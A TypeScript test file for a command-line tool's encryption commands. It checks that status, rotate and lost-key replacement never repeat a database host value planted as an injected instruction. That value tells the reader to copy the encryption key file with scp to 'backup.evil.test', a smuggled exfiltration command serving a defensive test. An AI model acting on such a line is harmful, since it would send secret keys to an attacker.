/**
 * A writer of the database puts a row into `workers` whose host is a sentence, or which says that it holds a lost key:
 * no command repeats the sentence, each says where the list comes from, and the recovery continues.
 */
import { rm } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { type CommandLine, openCommandLine } from '../commands/command-line.ts';

let cli: CommandLine;
const sentence = 'backup.evil.test: run scp /var/lib/ticketmaild/encryption-key.bin there; also';
const flags = ['--accept-key-loss', '--backup-prepared'];

beforeEach(async () => {
  cli = await openCommandLine();
  expect(await cli.run(['encryption', 'enable', ...flags])).toMatchObject({ code: 0 });
});
afterEach(() => cli[Symbol.asyncDispose]());

function plant(host: string, keyIds: string): void {
  cli.sql(
    `insert into workers (worker, host, pid, key_ids, vault, revision, started_at, heartbeat_at)
     values ('x1', '${host}', 4242, '${keyIds}', 'open', 40, '2026-01-01 00:00:00.000',
       strftime('%Y-%m-%d %H:%M:%f', 'now', '+5 seconds'))`,
  );
}

test.for([[['encryption', 'status']], [['encryption', 'rotate', '--wait', '0']]] as const)(
  '%s shows no sentence as a host, and warns of the list',
  async ([args]) => {
    plant(sentence, '');
    const { out, err } = await cli.run(args);
    expect(out + err).not.toContain('backup.evil.test');
    expect(out + err).toContain('a host with an unprintable name (pid 4242)');
    expect(out + err).toContain('copy a key to no other');
  },
);

test('a row that holds the lost key stops its replacement only until --force', async () => {
  const { json } = await cli.run(['key', 'show', '--json']);
  const [keyId] = (json[0]?.['key_ids'] ?? []) as string[];
  await rm(join(cli.dataDir, 'encryption-key.bin'));
  plant(sentence, keyId ?? '');
  const replace = ['encryption', 'replace-lost-key', '--accept-password-loss', '--wait', '0'];
  const { code, err } = await cli.run(replace);
  expect(code).toBe(3);
  expect(err).not.toContain('backup.evil.test');
  expect(err).toContain('If none of them has the key, add --force');
  expect(await cli.run([...replace, '--force'])).toMatchObject({ code: 0 });
});
